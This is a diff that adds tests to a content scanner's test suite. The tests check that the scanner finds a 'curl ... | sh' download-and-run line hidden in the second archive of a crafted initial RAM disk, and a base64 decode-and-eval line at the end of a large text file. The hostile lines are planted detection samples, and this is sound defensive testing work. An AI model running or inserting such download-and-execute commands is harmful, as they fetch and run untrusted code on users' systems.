@@ -172,6 +172,27 @@ class ScanTest(assay_test.AssayTest):
                 self.assertTrue(any(node["path"].endswith("!NOTE.TXT") and node["type"] == "text" for node in run.report["contents"]), str(run))
                 self.assertIn("NOTE.TXT", self.assay("scan", self.write(name, packed), "--tree").out)
 
+    def test_an_initial_ram_disk_is_looked_into_behind_its_first_archive(self):
+        cpio = lambda name, content: b"".join(
+            f"070701{1:08x}{mode:08x}{0:08x}{0:08x}{1:08x}{0:08x}{len(data):08x}{0:08x}{0:08x}{0:08x}{0:08x}{len(path) + 1:08x}{0:08x}".encode() +
+            path.encode() + b"\0" * (1 + -(110 + len(path) + 1) % 4) + data + b"\0" * (-len(data) % 4)
+            for path, mode, data in ((name, 0o100644, content), ("TRAILER!!!", 0, b"")))
+        second = gzip.compress(cpio("init", b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n"))
+        disk = self.write("initrd.img", cpio("microcode.bin", bytes(range(256)) * 8) + b"\0" * 512 + second)
+        run = self.scan(disk)
+        self.expect_finding(run, "content-download-and-run", "initrd.img!next!init")
+        self.assertTrue(run.report["coverage"]["complete"])
+        run = self.scan(disk, "--limit", f"memory={disk.stat().st_size}")
+        self.expect_exit(run, 3)
+        self.expect_gap(run, "behind the end of its first archive")
+
+    def test_the_end_of_a_text_is_read_as_far_as_there_is_memory_for_it(self):
+        text = self.write("long.txt", b"nothing to see\n" * 4_700_000 + b"eval $(echo ZWNobyBoaQo= | base64 -d)\n")
+        self.expect_finding(self.scan(text), "content-shell-decodes-and-runs", "long.txt")
+        run = self.assay("scan", text, "--limit", "memory=64M")
+        self.expect_exit(run, 2)
+        self.assertIn("memory=VALUE", run.err)
+
     def test_directories_single_files_and_revisions_are_subjects_too(self):
         self.write("tree/src/a.c", b"int a;\n")
         for subject in (self.directory / "tree", self.write("one.xz", lzma.compress(b"Hello\n" * 40)),
